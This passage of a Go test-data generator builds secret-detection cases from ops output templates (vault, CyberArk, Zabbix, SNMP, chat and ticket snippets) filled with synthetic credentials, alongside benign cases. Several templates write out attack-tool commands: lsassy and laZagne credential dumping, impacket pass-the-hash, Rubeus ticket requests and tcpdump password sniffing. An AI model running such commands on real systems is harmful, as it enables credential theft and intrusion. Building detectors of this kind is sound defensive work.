[+] «b» is the CORRECT key!
You can tamper/fuzz the token contents (-T/-I) and sign it using:
python3 jwt_tool.py [options here] -S hs256 -p "«b»"
`, V{"a": jwtTok, "b": jwtKey}, "Version 2.2.7")

	g.add("ops/pentest-report-finding", `
### 4.3 Default and weak credentials on management interfaces (High)

| Host | Service | Account | Password |
|---|---|---|---|
| 10.0.3.40 | Jenkins 2.401 | admin | «a» |
| 10.0.5.22 | iDRAC9 | root | «b» |
| 10.0.8.5 | Zabbix frontend | Admin | «c» |

**Recommendation:** rotate the passwords above, enforce SSO on Jenkins, restrict the BMC VLAN to the jump hosts.
`, V{"a": g.opsHuman(), "b": g.opsHuman(), "c": g.opsHuman()}, "restrict the BMC VLAN to the jump hosts")

	g.add("ops/lsassy-output", `
$ lsassy -u dana.admin -H «p» -d acme.local 10.0.4.0/24
[+] 10.0.4.77 ACME\jdoe          «a»
[+] 10.0.4.77 ACME\jdoe          «b»
[+] 10.0.4.81 ACME\svc_print     «c»
`, V{"p": g.hex(32), "a": g.opsHuman(), "b": g.hex(32), "c": g.opsGen(16)}, `[+] 10.0.4.81 ACME\svc_print`)

	g.add("ops/impacket-psexec-pass-the-hash", `
$ impacket-psexec -hashes «_lm»:«a» acme.local/Administrator@10.0.2.21
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Requesting shares on 10.0.2.21.....
[*] Found writable share ADMIN$
C:\Windows\system32> hostname
APP07
`, V{"_lm": opsEmptyLM, "a": g.hex(32)}, "[*] Found writable share ADMIN$")

	g.add("ops/rubeus-asktgt-kirbi", `
PS C:\Tools> .\Rubeus.exe asktgt /user:svc_sql /rc4:«a» /domain:acme.local /nowrap

[*] Action: Ask TGT
[*] Using rc4_hmac hash: «a»
[*] Building AS-REQ (w/ preauth) for: 'acme.local\svc_sql'
[+] TGT request successful!
[*] base64(ticket.kirbi):

      «b»

  ServiceName              :  krbtgt/acme.local
  UserName                 :  svc_sql
`, V{"a": strings.ToUpper(g.hex(32)), "b": "doIF" + g.s(alB64, 1600) + "="}, "ServiceName              :  krbtgt/acme.local")

	g.add("ops/lazagne-browsers-output", `
C:\Users\jdoe\AppData\Local\Temp> laZagne.exe browsers

########## User: jdoe ##########

------------------- Chrome passwords -----------------

[+] Password found !!!
URL: https://vcsa01.acme.local/ui/
Login: administrator@vsphere.local
Password: «a»

[+] Password found !!!
URL: http://10.0.5.22/login.html
Login: root
Password: «b»
`, V{"a": g.opsGen(20), "b": g.opsGen(16)}, "URL: https://vcsa01.acme.local/ui/")

	g.add("ops/netsh-wlan-key-clear", `
C:\> netsh wlan show profile name="Acme-Staff" key=clear

Security settings
-----------------
    Authentication         : WPA2-Personal
    Cipher                 : CCMP
    Security key           : Present
    Key Content            : «a»
`, V{"a": g.opsHuman() + g.s(alDigit, 2)}, "Authentication         : WPA2-Personal")

	g.add("ops/tcpdump-ftp-cleartext", `
$ sudo tcpdump -i eth0 -A -n 'tcp port 21' 2>/dev/null | grep -E 'USER|PASS'
E..@..@.@.....
.....5...USER scanner
E..@..@.@.....
.....5...PASS «a»
`, V{"a": g.opsHuman()}, ".....5...USER scanner")
}

// ---- secret stores and privileged access ----

func (g *G) opsVaults() {
	g.add("ops/vault-operator-init", `
$ vault operator init -key-shares=5 -key-threshold=3
Unseal Key 1: «a»
Unseal Key 2: «b»
Unseal Key 3: «c»
Unseal Key 4: «d»
Unseal Key 5: «e»

Initial Root Token: «f»

Vault initialized with 5 key shares and a key threshold of 3. Please securely
distribute the key shares printed above. When the Vault is re-sealed,
restarted, or stopped, you must supply at least 3 of these keys to unseal it
before it can start servicing requests.
`, V{"a": g.b64(33), "b": g.b64(33), "c": g.b64(33), "d": g.b64(33), "e": g.b64(33), "f": g.vaultOld()},
		"Vault initialized with 5 key shares and a key threshold of 3.")

	g.add("ops/vault-approle-login", `
$ vault write auth/approle/login role_id=«=r» secret_id=«a»
Key                     Value
---                     -----
token                   «b»
token_accessor          «_acc»
token_duration          1h
token_policies          ["default" "ci-deploy"]
`, V{"=r": g.uuid(), "a": g.uuid(), "b": g.vaultTok(), "_acc": g.an(24)}, `token_policies          ["default" "ci-deploy"]`)

	g.add("ops/boundary-authenticate", `
$ export BOUNDARY_ADDR=https://boundary.acme.io
$ BOUNDARY_PASSWORD='«a»' boundary authenticate password -auth-method-id ampw_«_am» -login-name ops-admin -password env://BOUNDARY_PASSWORD -format json | jq -r .item.attributes.token
«b»
$ export BOUNDARY_TOKEN=«b»
$ boundary connect ssh -target-id ttcp_«_t»
`, V{"a": g.opsHuman(), "_am": g.an(10), "b": "at_" + g.an(10) + "_s1" + g.s(alB58, 120), "_t": g.an(10)}, "-password env://BOUNDARY_PASSWORD")

	g.add("ops/cyberark-pvwa-logon-api", `
$ curl -sk -X POST https://pvwa.acme.local/PasswordVault/API/auth/Cyberark/Logon \
    -H 'Content-Type: application/json' \
    -d '{"username": "svc_ansible_api", "password": "«a»", "concurrentSession": true}'
"«b»"
$ curl -sk -H 'Authorization: «b»' 'https://pvwa.acme.local/PasswordVault/API/Accounts?search=root&limit=5' | jq '.count'
5
`, V{"a": g.opsGen(20), "b": g.s(alAlnum, 180)}, "https://pvwa.acme.local/PasswordVault/API/Accounts?search=root&limit=5")

	g.add("ops/cyberark-ccp-get-password", `
$ curl -s --cert /etc/pki/ccp/ansible.crt --key /etc/pki/ccp/ansible.key \
    'https://ccp.acme.local/AIMWebService/api/Accounts?AppID=Ansible&Safe=Linux-Root&Object=root-web01' | jq .
{
  "Content": "«a»",
  "CreationMethod": "PVWA",
  "Address": "web01.acme.local",
  "Safe": "Linux-Root",
  "UserName": "root",
  "Name": "root-web01",
  "PolicyID": "UnixSSH",
  "PasswordChangeInProcess": "False"
}
`, V{"a": g.opsGen(24)}, `"PolicyID": "UnixSSH"`)

	g.add("ops/delinea-secret-server-oauth", `
$ curl -s -X POST https://ss.acme.local/SecretServer/oauth2/token \
    -d 'username=svc_ss_api' -d 'password=«a»' -d 'grant_type=password'
{"access_token":"«b»","token_type":"bearer","expires_in":1199,"refresh_token":"«c»"}
$ curl -s -H "Authorization: Bearer «b»" https://ss.acme.local/SecretServer/api/v1/secrets/4211/fields/password
"«d»"
`, V{"a": g.opsGen(18), "b": "AgK" + g.b64u(300), "c": "AgJ" + g.b64u(200), "d": g.opsGen(20)}, `"token_type":"bearer","expires_in":1199`)

	g.add("ops/op-cli-reveal", `
$ export OP_SERVICE_ACCOUNT_TOKEN=«a»
$ op item get "iDRAC r740-03" --vault Infrastructure --fields username,password --reveal
root,«b»
$ op read "op://Infrastructure/core-sw01/enable secret"
«c»
`, V{"a": g.opToken(), "b": g.opsGen(20), "c": g.opsGen(16)}, `--vault Infrastructure`)

	g.add("ops/bitwarden-cli-unlock", docBT(`
$ bw unlock
? Master password: [hidden]
Your vault is now unlocked!

To unlock your vault, set your session key to the ˋBW_SESSIONˋ environment variable. ex:
$ export BW_SESSION="«a»"
$ bw get password "ESXi root (esx21)" --session «a»
«b»
`), V{"a": g.b64(64), "b": g.opsGen(20)}, "Your vault is now unlocked!")

	g.add("ops/keepassxc-cli-show", `
$ keepassxc-cli show -s ~/ops.kdbx "Network/core-sw01"
Enter password to unlock /home/dana/ops.kdbx:
Title: core-sw01
UserName: netadmin
Password: «a»
URL: ssh://10.10.0.1
Notes: enable secret: «b»
`, V{"a": g.opsGen(20), "b": g.opsGen(16)}, "URL: ssh://10.10.0.1")
}

// ---- monitoring and management ----

func (g *G) opsMonitoring() {
	g.add("ops/nagios-resource-cfg", `
# /usr/local/nagios/etc/resource.cfg
# Sets $USER1$ to be the path to the plugins
$USER1$=/usr/local/nagios/libexec
# MySQL monitoring user
$USER3$=nagios
$USER4$=«a»
# SNMPv3 auth / priv
$USER5$=«b»
$USER6$=«c»
`, V{"a": g.opsHuman(), "b": g.opsGen(16), "c": g.opsGen(16)}, "$USER1$=/usr/local/nagios/libexec", "$USER3$=nagios")

	g.add("ops/nagios-command-literal-snmpv3", `
define command {
    command_name    check_snmp_if_v3
    command_line    $USER1$/check_snmp -H $HOSTADDRESS$ -P 3 -L authPriv -U nms -a SHA -A '«a»' -x AES -X '«b»' -o ifOperStatus.$ARG1$ -r 1
}
`, V{"a": g.opsGen(16), "b": g.opsGen(16)}, "command_name    check_snmp_if_v3", "$HOSTADDRESS$")

	g.add("ops/icinga2-api-users", `
/* /etc/icinga2/conf.d/api-users.conf */
object ApiUser "root" {
  password = "«a»"
  permissions = [ "*" ]
}
object ApiUser "director" {
  password = "«b»"
  permissions = [ "object/*", "status/query", "actions/*", "events/*" ]
}
`, V{"a": g.hex(16), "b": g.opsGen(20)}, `permissions = [ "object/*", "status/query", "actions/*", "events/*" ]`)

	g.add("ops/zabbix-server-conf-and-macros", `
$ grep -E '^DB(Host|Name|User|Password)=' /etc/zabbix/zabbix_server.conf
DBHost=db01.acme.lan
DBName=zabbix
DBUser=zabbix
DBPassword=«a»
$ zabbix_get -s 10.10.0.1 -k 'net.if.in[ifHCInOctets.10001]'
# host macros on template "Cisco IOS by SNMP":
{$SNMP_COMMUNITY} = «b»
{$SNMPV3_AUTHPASS} = «c»
{$SNMPV3_PRIVPASS} = «d»
`, V{"a": g.opsGen(22), "b": g.opsCommunity(), "c": g.opsGen(16), "d": g.opsGen(16)}, "DBHost=db01.acme.lan", `"Cisco IOS by SNMP"`)

	g.add("ops/zabbix-api-user-login", `
$ curl -s -H 'Content-Type: application/json-rpc' https://zabbix.acme.lan/api_jsonrpc.php \
    -d '{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"«a»"},"id":1}'
{"jsonrpc":"2.0","result":"«b»","id":1}
`, V{"a": g.opsHuman(), "b": g.hex(32)}, `"method":"user.login"`)

	g.add("ops/prometheus-scrape-basic-auth", `
scrape_configs:
  - job_name: pve
    metrics_path: /pve
    params:
      module: [default]
    static_configs:
      - targets: ['pve01.acme.lan', 'pve02.acme.lan']
  - job_name: node-dmz
    scheme: https
    basic_auth:
      username: prometheus
      password: «a»
    static_configs:
      - targets: ['dmz-web01:9100', 'dmz-web02:9100']
`, V{"a": g.opsGen(24)}, "- targets: ['dmz-web01:9100', 'dmz-web02:9100']")

	g.add("ops/prometheus-web-config-bcrypt", `
# /etc/node_exporter/web.yml
tls_server_config:
  cert_file: /etc/node_exporter/tls.crt
  key_file: /etc/node_exporter/tls.key
basic_auth_users:
  prometheus: «a»
`, V{"a": g.apBcrypt("10")}, "cert_file: /etc/node_exporter/tls.crt")

	g.add("ops/snmp-exporter-auths", `
auths:
  public_v2:
    version: 2
  acme_v2:
    community: «a»
    version: 2
  acme_v3:
    version: 3
    username: prometheus
    security_level: authPriv
    auth_protocol: SHA
    password: «b»
    priv_protocol: AES
    priv_password: «c»
`, V{"a": g.opsCommunity(), "b": g.opsGen(16), "c": g.opsGen(16)}, "security_level: authPriv")

	g.add("ops/snmpwalk-v2c-community", `
$ snmpwalk -v2c -c «a» 10.10.0.1 1.3.6.1.2.1.1
SNMPv2-MIB::sysDescr.0 = STRING: Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E9
SNMPv2-MIB::sysObjectID.0 = OID: SNMPv2-SMI::enterprises.9.1.1208
DISMAN-EVENT-MIB::sysUpTimeInstance = Timeticks: (412312211) 47 days, 17:18:42.11
SNMPv2-MIB::sysName.0 = STRING: sw-acc-114
`, V{"a": g.opsCommunity()}, "SNMPv2-MIB::sysObjectID.0 = OID: SNMPv2-SMI::enterprises.9.1.1208")

	g.add("ops/snmpwalk-v3-authpriv", `
$ snmpwalk -v3 -l authPriv -u librenms -a SHA -A '«a»' -x AES -X '«b»' 10.10.0.1 IF-MIB::ifDescr
IF-MIB::ifDescr.1 = STRING: GigabitEthernet1/0/1
IF-MIB::ifDescr.2 = STRING: GigabitEthernet1/0/2
`, V{"a": g.opsGen(16), "b": g.opsGen(16)}, "IF-MIB::ifDescr.1 = STRING: GigabitEthernet1/0/1")

	g.add("ops/librenms-add-device-v3", `
librenms@nms01:~$ lnms device:add --v3 --authlevel authPriv --authname librenms --authpass «a» --authalgo SHA --cryptopass «b» --cryptoalgo AES sw-acc-114.acme.lan
Added device sw-acc-114.acme.lan (412)
librenms@nms01:~$ lnms device:add --v2c -c «c» ups-dc1-a.acme.lan
Added device ups-dc1-a.acme.lan (413)
`, V{"a": g.opsGen(16), "b": g.opsGen(16), "c": g.opsCommunity()}, "Added device sw-acc-114.acme.lan (412)")

	g.add("ops/grafana-datasource-provisioning", `
# /etc/grafana/provisioning/datasources/zabbix.yaml
apiVersion: 1
datasources:
  - name: Zabbix
    type: alexanderzobnin-zabbix-datasource
    url: https://zabbix.acme.lan/api_jsonrpc.php
    jsonData:
      username: grafana
      trends: true
    secureJsonData:
      password: «a»
  - name: Prometheus
    type: prometheus
    url: https://prom.acme.lan
    basicAuth: true
    basicAuthUser: grafana
    secureJsonData:
      basicAuthPassword: «b»
`, V{"a": g.opsGen(20), "b": g.opsGen(20)}, "type: alexanderzobnin-zabbix-datasource")
}

// ---- chats, tickets and runbooks ----

func (g *G) opsChat() {
	g.add("ops/chat-oncall-handover", `
[09:02] marta: handing over on-call, notes:
[09:02] marta: core switches enable is «a» (same on both), tacacs is down so use the local netadmin acct
[09:03] marta: iDRAC on r740-03 was reset, root / «b» until Dell swaps the board
[09:03] marta: ping me if the DC1 UPS alarms again
[09:04] tomasz: 👍 got it
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, "ping me if the DC1 UPS alarms again")

	g.add("ops/ticket-partner-vpn-psk", `
CHG-10482  Site-to-site VPN to Contoso logistics
Requested by: network@contoso-logistics.example
Peer IP: 198.51.100.180   Local: 203.0.113.10
Phase 1: IKEv2 / AES-256 / SHA-256 / DH14 / 28800 s
Phase 2: AES-256-GCM / PFS group 14 / 3600 s
Pre-shared key (agreed by phone 03/06): «a»
Encryption domains: 10.60.0.0/16 <-> 172.20.10.0/24
`, V{"a": g.opsPSK()}, "Phase 2: AES-256-GCM / PFS group 14 / 3600 s")

	g.add("ops/runbook-breakglass-table", `
## Break-glass accounts (sealed envelope copy in safe B2)

| System | Account | Password | Last rotated |
|---|---|---|---|
| Azure AD | bg-admin@acme.onmicrosoft.com | «a» | 2024-03-01 |
| vCenter | administrator@vsphere.local | «b» | 2024-03-01 |
| FortiGate HQ | bg-admin | «c» | 2024-02-12 |
| Domain | ACME\bg-da | «d» | 2024-03-01 |
`, V{"a": g.opsGen(24), "b": g.opsGen(24), "c": g.opsGen(24), "d": g.opsGen(24)}, "sealed envelope copy in safe B2")

	g.add("ops/incident-notes-compromised", `
IR-2024-017 working notes (TLP:AMBER)
- 10:41 phishing victim jdoe entered creds on fake OWA; attacker used jdoe / «a» from 185.220.101.x
- 10:58 attacker read helpdesk mailbox, found vendor portal creds svc_vendor / «b»
- 11:20 both accounts disabled, sessions revoked; to rotate: «c» (shared local admin seen in a screenshot)
`, V{"a": g.opsSeason(), "b": g.opsHuman(), "c": g.opsHuman()}, "IR-2024-017 working notes (TLP:AMBER)")

	g.add("ops/chat-ask-agent-fix-script", `
user: this backup script fails with "Access denied for user 'backup'@'localhost'", can you see why?

#!/bin/bash
DBUSER=backup
DBPASS="«a»"
mysqldump -u$DBUSER -p $DBPASS --all-databases > /srv/backup/all.sql

assistant: There is a space between -p and the password, so mysqldump prompts for a password and treats "$DBPASS" as a database name. Write -p"$DBPASS" (no space), or better, put the credentials in /root/.my.cnf so they don't show in ps.
`, V{"a": g.opsHuman()}, "Access denied for user 'backup'@'localhost'")

	g.add("ops/email-new-server-handoff", `
From: hosting-support@example-dc.net
Subject: Your dedicated server is ready (order 88213)

Server: srv88213.example-dc.net (203.0.113.213)
OS: Debian 12
SSH: root@203.0.113.213
Initial root password: «a»
IPMI: https://203.0.113.214  user ADMIN  password «b»

Please change both passwords after first login.
`, V{"a": g.an(16), "b": g.s(alUpper, 10)}, "Server: srv88213.example-dc.net (203.0.113.213)")

	g.add("ops/ticket-printer-scan-to-folder", `
INC-55210 | Scan to folder broken on 3rd floor MFP
Resolution: the svc_scan account password expired. Set a new one in AD and on the MFP address book entry:
  \\fs01\Scans  user ACME\svc_scan  pass «a»
Set "password never expires" on svc_scan; MFP admin PIN changed from the default to «b».
`, V{"a": g.opsHuman(), "b": g.digits(8)}, `\\fs01\Scans  user ACME\svc_scan`)
}

// ---- benign-only: what sits beside the secrets and must survive ----

func (g *G) opsBenign() {
	fp := "SHA256:" + g.b64(32)[:43]
	_, hk := g.sshEd25519("")
	g.add("ops/benign-ssh-host-key-first-connect", `
$ ssh netadmin@10.10.0.1
The authenticity of host '10.10.0.1 (10.10.0.1)' can't be established.
ED25519 key fingerprint is «_fp».
This key is not known by any other names.
Are you sure you want to continue connecting (yes/no/[fingerprint])? yes
Warning: Permanently added '10.10.0.1' (ED25519) to the list of known hosts.
$ ssh-keyscan -t ed25519 10.10.0.1 2>/dev/null
10.10.0.1 «_hk»
`, V{"_fp": fp, "_hk": hk}, "Warning: Permanently added '10.10.0.1' (ED25519) to the list of known hosts.")

	_, ak := g.sshEd25519("backup@ctl01")
	g.add("ops/benign-authorized-keys-forced-command", `
$ sudo cat /home/backup/.ssh/authorized_keys
from="10.0.9.0/24",command="/usr/local/bin/rrsync -ro /srv/data",no-pty,no-agent-forwarding,no-port-forwarding «_a» backup@ctl01
«_b» dana@laptop
`, V{"_a": ak, "_b": g.sshRSAPub()}, `command="/usr/local/bin/rrsync -ro /srv/data"`)

	g.add("ops/benign-ios-pki-certificates", `
R1#show crypto pki certificates verbose TP-SELF-SIGNED
Certificate
  Status: Available
  Version: 3
  Certificate Serial Number (hex): «_sn»
  Certificate Usage: General Purpose
  Issuer:
    cn=IOS-Self-Signed-Certificate-«_n»
  Validity Date:
    start date: 09:12:44 UTC Jun 3 2024
    end   date: 00:00:00 UTC Jan 1 2030
  Subject Key Info:
    Public Key Algorithm: rsaEncryption
    RSA Public Key: (2048 bit)
  Fingerprint MD5: «_m»
  Fingerprint SHA1: «_s»
`, V{"_sn": strings.ToUpper(g.hex(2)), "_n": g.digits(10), "_m": g.docGroups(alHexU, 4, 8, " "), "_s": g.docGroups(alHexU, 5, 8, " ")})

	g.add("ops/benign-show-inventory-serials", `
sw-core-01#show inventory
NAME: "c93xx Stack", DESCR: "c93xx Stack"
PID: C9300-48P         , VID: V02  , SN: «_a»

NAME: "Switch 1", DESCR: "C9300-48P"
PID: C9300-48P         , VID: V02  , SN: «_b»

NAME: "Switch 1 - Power Supply A", DESCR: "Switch 1 - Power Supply A"
PID: PWR-C1-715WAC     , VID: V03  , SN: «_c»
`, V{"_a": "FOC" + g.s(alUpNum, 8), "_b": "FOC" + g.s(alUpNum, 8), "_c": "LIT" + g.s(alUpNum, 8)}, "PID: PWR-C1-715WAC")

	g.add("ops/benign-mac-address-table", `
sw-acc-114#show mac address-table dynamic vlan 20
          Mac Address Table
-------------------------------------------

Vlan    Mac Address       Type        Ports
----    -----------       --------    -----
  20    «_a»    DYNAMIC     Gi1/0/7
  20    «_b»    DYNAMIC     Gi1/0/12
  20    «_c»    DYNAMIC     Gi1/0/48
Total Mac Addresses for this criterion: 3
`, V{"_a": g.hex(4) + "." + g.hex(4) + "." + g.hex(4), "_b": g.hex(4) + "." + g.hex(4) + "." + g.hex(4), "_c": g.hex(4) + "." + g.hex(4) + "." + g.hex(4)},
		"Total Mac Addresses for this criterion: 3")

	g.add("ops/benign-vlan-brief-and-ip-int", `
sw-core-01#show vlan brief
VLAN Name                             Status    Ports
---- -------------------------------- --------- -------------------------------
1    default                          active    Gi1/0/1, Gi1/0/2
20   VOICE                            active    Gi1/0/3, Gi1/0/4
30   USERS                            active    Gi1/0/5, Gi1/0/6
999  NATIVE-UNUSED                    active
sw-core-01#show ip interface brief | exclude unassigned
Interface              IP-Address      OK? Method Status                Protocol
Vlan20                 10.20.0.2       YES NVRAM  up                    up
Vlan30                 10.30.0.2       YES NVRAM  up                    up
TenGigabitEthernet1/1/1 10.255.0.1     YES NVRAM  up                    up
`, nil, "999  NATIVE-UNUSED", "TenGigabitEthernet1/1/1 10.255.0.1", "Vlan20                 10.20.0.2")

	sid := g.opsSID()
	g.add("ops/benign-whoami-all-sids", `
C:\> whoami /user /groups /fo list

USER INFORMATION
----------------
User Name: acme\dana.admin
SID:       «_s»-1107

GROUP INFORMATION
-----------------
Group Name: ACME\Domain Admins
Type:       Group
SID:        «_s»-512
Attributes: Mandatory group, Enabled by default, Enabled group

Group Name: Mandatory Label\High Mandatory Level
Type:       Label
SID:        S-1-16-12288
`, V{"_s": sid}, "S-1-16-12288", "Group Name: ACME\\Domain Admins")

	g.add("ops/benign-get-gpo-guids", `
PS C:\> Get-GPO -All | Select-Object DisplayName, Id, GpoStatus, ModificationTime | Format-Table -AutoSize

DisplayName                        Id                                   GpoStatus ModificationTime
-----------                        --                                   --------- ----------------
Default Domain Policy              «_a» AllSettingsEnabled 3/14/2024 9:12:44 AM
Workstations - LAPS                «_b» AllSettingsEnabled 5/2/2024 4:01:10 PM
Servers - WinRM HTTPS              «_c» UserSettingsDisabled 5/20/2024 11:30:02 AM
`, V{"_a": g.uuid(), "_b": g.uuid(), "_c": g.uuid()}, "Workstations - LAPS")

	g.add("ops/benign-snmpwalk-public-lab", `
# lab MikroTik on the bench, factory config; "public" is the shipped default
# community, printed in every manual, so it is not a secret
$ snmpwalk -v2c -c public 192.168.88.1 1.3.6.1.2.1.2.2.1.2
IF-MIB::ifDescr.1 = STRING: ether1
IF-MIB::ifDescr.2 = STRING: ether2
IF-MIB::ifDescr.7 = STRING: bridge
$ snmpget -v2c -c public 192.168.88.1 1.3.6.1.2.1.1.5.0
SNMPv2-MIB::sysName.0 = STRING: MikroTik
`, nil, "-c public 192.168.88.1", "1.3.6.1.2.1.2.2.1.2", "1.3.6.1.2.1.1.5.0", "IF-MIB::ifDescr.7 = STRING: bridge")

	g.add("ops/benign-placeholders-across-tools", `
# group_vars/switches.yml
ansible_password: "{{ vault_switch_pw }}"
snmp_community: "{{ lookup('community.hashi_vault.hashi_vault', 'secret=secret/data/net:snmp_ro') }}"

# deploy.ps1
$cred = New-Object PSCredential("ACME\svc_deploy", (ConvertTo-SecureString $env:ADMIN_PW -AsPlainText -Force))

# README: configure the switch
username admin privilege 15 secret 0 <PASSWORD>
crypto isakmp key <PSK> address <PEER_IP>
ipmitool -I lanplus -H <bmc-ip> -U ADMIN -P "$IPMI_PASSWORD" chassis status
`, nil, "{{ vault_switch_pw }}", "secret=secret/data/net:snmp_ro", "$env:ADMIN_PW", "secret 0 <PASSWORD>", "key <PSK> address <PEER_IP>", `-P "$IPMI_PASSWORD"`)

	g.add("ops/benign-rancid-oxidized-sanitized", `
$ cat /var/lib/rancid/branch/configs/br07-rtr.acme.lan
!RANCID-CONTENT-TYPE: cisco
!
enable secret <removed>
!
username admin privilege 15 secret <removed>
username backup password <removed>
snmp-server community <removed> RO 10
tacacs-server key <removed>
$ cat /var/lib/oxidized/configs/sw-acc-114
username admin privilege 15 secret 9 <secret hidden>
line vty 0 4
 password 7 <secret hidden>
`, nil, "enable secret <removed>", "snmp-server community <removed> RO 10", "secret 9 <secret hidden>", "password 7 <secret hidden>")

	g.add("ops/benign-ntp-auth-ids-and-krb5-realms", `
R1#show running-config | include ntp
ntp authenticate
ntp trusted-key 10
ntp server 10.0.0.123 key 10 prefer
$ cat /etc/krb5.conf
[libdefaults]
    default_realm = ACME.LOCAL
    dns_lookup_kdc = true
    rdns = false
[realms]
    ACME.LOCAL = {
        kdc = dc01.acme.local
        admin_server = dc01.acme.local
    }
[domain_realm]
    .acme.local = ACME.LOCAL
`, nil, "ntp trusted-key 10", "ntp server 10.0.0.123 key 10 prefer", "default_realm = ACME.LOCAL", ".acme.local = ACME.LOCAL")

	g.add("ops/benign-passwd-and-locked-shadow", `
$ getent passwd dana deploy postgres
dana:x:1001:1001:Dana K,,,:/home/dana:/bin/bash
deploy:x:1002:1002::/home/deploy:/bin/bash
postgres:x:114:121:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
$ sudo getent shadow daemon nobody svc-nologin
daemon:*:19722:0:99999:7:::
nobody:*:19722:0:99999:7:::
svc-nologin:!*:19810:0:99999:7:::
`, nil, "dana:x:1001:1001:Dana K,,,:/home/dana:/bin/bash", "daemon:*:19722:0:99999:7:::", "svc-nologin:!*:19810:0:99999:7:::")

	_, w1 := g.wireguard()
	_, w2 := g.wireguard()
	g.add("ops/benign-wg-show-public-keys", `
$ sudo wg show all
interface: wg0
  public key: «_a»
  private key: (hidden)
  listening port: 51820

peer: «_b»
  endpoint: 203.0.113.77:51820
  allowed ips: 10.99.0.0/24
  latest handshake: 41 seconds ago
  transfer: 4.02 GiB received, 1.13 GiB sent
  persistent keepalive: every 25 seconds
`, V{"_a": w1, "_b": w2}, "private key: (hidden)", "endpoint: 203.0.113.77:51820")

	g.add("ops/benign-vault-status", `
$ vault status
Key                     Value
---                     -----
Seal Type               shamir
Initialized             true
Sealed                  false
Total Shares            5
Threshold               3
Version                 1.16.3
Build Date              2024-05-29T14:28:42Z
Storage Type            raft
Cluster Name            vault-cluster-«_c»
Cluster ID              «_id»
HA Enabled              true
HA Cluster              https://vault-0.vault-internal:8201
HA Mode                 active
Raft Committed Index    1842211
`, V{"_c": g.hex(8), "_id": g.uuid()}, "HA Cluster              https://vault-0.vault-internal:8201")

	g.add("ops/benign-nmap-service-scan", `
$ nmap -sV -sC -p 22,443 10.0.3.14
Nmap scan report for web03.acme.lan (10.0.3.14)
PORT    STATE SERVICE  VERSION
22/tcp  open  ssh      OpenSSH 9.2p1 Debian 2+deb12u2 (protocol 2.0)
| ssh-hostkey:
|   256 «_a» (ECDSA)
|_  256 «_b» (ED25519)
443/tcp open  ssl/http nginx 1.22.1
| ssl-cert: Subject: commonName=web03.acme.lan
| Not valid before: 2024-05-01T00:00:00
|_Not valid after:  2024-07-30T23:59:59
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel
`, V{"_a": g.tlColonHex(16), "_b": g.tlColonHex(16)}, "OpenSSH 9.2p1 Debian 2+deb12u2 (protocol 2.0)", "cpe:/o:linux:linux_kernel")

	g.add("ops/benign-ldapsearch-gssapi-binary-attrs", `
$ ldapsearch -LLL -Y GSSAPI -H ldap://dc01.acme.local -b "DC=acme,DC=local" "(sAMAccountName=svc_sql)" objectGUID objectSid servicePrincipalName
SASL/GSSAPI authentication started
SASL username: dana.admin@ACME.LOCAL
SASL SSF: 256
dn: CN=svc_sql,OU=Service Accounts,DC=acme,DC=local
objectGUID:: «_g»
objectSid:: «_s»
servicePrincipalName: MSSQLSvc/sql01.acme.local:1433
`, V{"_g": g.b64(16), "_s": g.b64(28)}, "SASL username: dana.admin@ACME.LOCAL", "servicePrincipalName: MSSQLSvc/sql01.acme.local:1433")

	g.add("ops/benign-secretsdump-empty-hashes", `
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Guest:501:«_lm»:«_nt»:::
DefaultAccount:503:«_lm»:«_nt»:::
[*] Note: Guest and DefaultAccount are disabled and have the empty password (the LM and NT hashes above are the well-known empty-string values).
`, V{"_lm": opsEmptyLM, "_nt": opsEmptyNT}, "Guest:501:", "DefaultAccount:503:")

	g.add("ops/benign-event-4625-xml", `
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <EventID>4625</EventID>
    <Computer>DC01.acme.local</Computer>
  </System>
  <EventData>
    <Data Name="SubjectUserSid">S-1-5-18</Data>
    <Data Name="TargetUserName">bnovak</Data>
    <Data Name="TargetDomainName">ACME</Data>
    <Data Name="Status">0xc000006d</Data>
    <Data Name="SubStatus">0xc000006a</Data>
    <Data Name="LogonType">3</Data>
    <Data Name="LogonProcessName">NtLmSsp </Data>
    <Data Name="WorkstationName">KALI</Data>
    <Data Name="TransmittedServices">-</Data>
    <Data Name="IpAddress">10.0.4.250</Data>
    <Data Name="LogonGuid">«_g»</Data>
  </EventData>
</Event>
`, V{"_g": "{" + g.uuid() + "}"}, `<Data Name="SubStatus">0xc000006a</Data>`, `<Data Name="IpAddress">10.0.4.250</Data>`)

	g.add("ops/benign-gpp-empty-cpassword", `
<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}">
  <Group clsid="{6D4A79E4-529C-4481-ABD0-F5BD7EA93BA7}" name="Administrators (built-in)" image="2" changed="2024-05-02 16:01:10" uid="«_u»">
    <Properties action="U" newName="" description="" deleteAllUsers="0" deleteAllGroups="0" removeAccounts="0" groupSid="S-1-5-32-544" groupName="Administrators (built-in)">
      <Members><Member name="ACME\Workstation-Admins" action="ADD" sid="«_s»-1311"/></Members>
    </Properties>
  </Group>
  <User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="localsupport" image="2" changed="2024-05-02 16:01:10" uid="«_u2»">
    <Properties action="U" userName="localsupport" cpassword="" acctDisabled="1" noChange="1"/>
  </User>
</Groups>
`, V{"_u": g.opsGUIDU(), "_s": g.opsSID(), "_u2": g.opsGUIDU()}, `cpassword=""`, `groupSid="S-1-5-32-544"`)

	g.add("ops/benign-unattend-sensitive-data-deleted", `
C:\Windows\Panther> type unattend.xml | findstr /i /c:"<Value>" /c:"PlainText"
          <Value>*SENSITIVE*DATA*DELETED*</Value>
          <PlainText>true</PlainText>
          <Value>*SENSITIVE*DATA*DELETED*</Value>
`, nil, "<Value>*SENSITIVE*DATA*DELETED*</Value>")

	g.add("ops/benign-ansible-vault-ciphertext", `
# group_vars/firewalls/vault.yml (encrypted with ansible-vault; the vault password is not in the repo)
fortigate_api_token: !vault |
          $ANSIBLE_VAULT;1.1;AES256
          «_a»
          «_b»
          «_c»
